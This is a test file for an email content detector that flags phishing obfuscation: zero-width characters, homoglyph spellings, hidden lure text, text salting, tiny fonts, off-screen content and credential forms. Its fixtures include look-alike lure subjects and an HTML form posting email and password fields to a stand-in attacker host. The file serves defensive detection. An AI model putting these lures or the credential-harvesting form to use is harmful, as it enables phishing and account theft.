import { describe, expect, it } from 'vitest';
import type { BodyHtml } from '../../../../../src/core/message.ts';
import { mailbox } from '../../../../helpers/model-factory.ts';
import { contentFindings, contentRules, textModel } from './run-content.ts';

function htmlModel(html: Partial<BodyHtml>, text = 'Hello, see the message below.') {
  const body: BodyHtml = { raw: html.raw ?? '<p>hi</p>', display_text: html.display_text ?? text, inner_text: html.inner_text ?? text };
  return textModel('Notice', text, { body: { html: body }, sender: mailbox('news@shop.example', 'Shop') });
}

describe('content detector: hidden text, obfuscation and forms', () => {
  it('fires on invisible characters between letters', () => {
    const msg = textModel('A\u200Bl\u200Be\u200Br\u200Bt', 'Your p\u200Ba\u200Bs\u200Bs\u200Bword');
    expect(contentFindings(msg).find((f) => f.rule === 'ZERO_WIDTH_OBFUSCATION')?.confidence).toBe(1);
  });

  it('does not fire on Persian text joined with ZWNJ, nor on one stray soft hyphen', () => {
    expect(contentRules(textModel('سلام', 'می\u200Cخواهم کتاب\u200Cها را ببینم'))).not.toContain('ZERO_WIDTH_OBFUSCATION');
    expect(contentRules(textModel('Info', 'Donau\u00ADdampf\u00ADschiff'))).not.toContain('ZERO_WIDTH_OBFUSCATION');
  });

  it('fires on words spelled with Cyrillic and Greek look-alikes, not on Russian text', () => {
    expect(contentRules(textModel('Ρⅼеаѕе Սрⅾаtе Υоսr Ιⅾеոtіtу', 'Thanks'))).toContain('MIXED_SCRIPT_WORDS');
    expect(contentRules(textModel('Привет', 'Спасибо за письмо, встретимся завтра в офисе.'))).not.toContain('MIXED_SCRIPT_WORDS');
  });

  it('fires on lure phrases present only in hidden HTML text', () => {
    const msg = htmlModel({ display_text: 'Quarterly newsletter', inner_text: 'Quarterly newsletter verify your account your mailbox is full' });
    expect(contentRules(msg)).toContain('HIDDEN_LURE_TEXT');
  });

  it('does not fire on a short hidden preheader', () => {
    const msg = htmlModel({ display_text: 'Our spring collection is here', inner_text: 'New arrivals inside Our spring collection is here' });
    expect(contentRules(msg)).toEqual([]);
  });

  it('fires on text salting: most of the HTML text hidden', () => {
    const filler = 'lorem ipsum dolor sit amet '.repeat(60);
    const msg = htmlModel({ display_text: 'Click here', inner_text: `Click here ${filler}` });
    expect(contentRules(msg)).toContain('HIDDEN_TEXT_SALTING');
  });

  it('fires on text in zero-size fonts, not on layout containers with font-size:0', () => {
    const tiny = '<span style="font-size:0px">invoice payment delivery refund account</span>'.repeat(2);
    expect(contentRules(htmlModel({ raw: `<p>Hi</p>${tiny}` }))).toContain('TINY_FONT_TEXT');
    const layout = '<div style="font-size:0;"><table><tr><td style="font-size:14px">Real text here</td></tr></table></div>'.repeat(5);
    expect(contentRules(htmlModel({ raw: layout }))).not.toContain('TINY_FONT_TEXT');
  });

  it('fires on content pushed thousands of pixels off screen, not on the classic -9999px image replacement', () => {
    expect(contentRules(htmlModel({ raw: '<div style="margin-top: 470500px">salt words</div>' }))).toContain('OFFSCREEN_TEXT');
    expect(contentRules(htmlModel({ raw: '<h1 style="text-indent:-9999px">Logo</h1>' }))).toEqual([]);
  });

  it('fires on a password form and an off-site account form; not on a newsletter search box', () => {
    const pwd = htmlModel({ raw: '<form action="https://evil.example/p.php" method="post"><input type="email" name="email"><input type="password" name="pw"></form>' });
    expect(contentRules(pwd)).toEqual(expect.arrayContaining(['HTML_FORM_PASSWORD', 'HTML_FORM_OFFSITE']));
    const search = htmlModel({ raw: '<form action="https://search.partner.example/find"><input type="text" name="q"><input type="submit"></form>' });
    expect(contentRules(search)).toEqual([]);
    const own = htmlModel({ raw: '<form action="https://www.shop.example/subscribe"><input type="email" name="email"></form>' });
    expect(contentRules(own)).toEqual([]);
  });
});
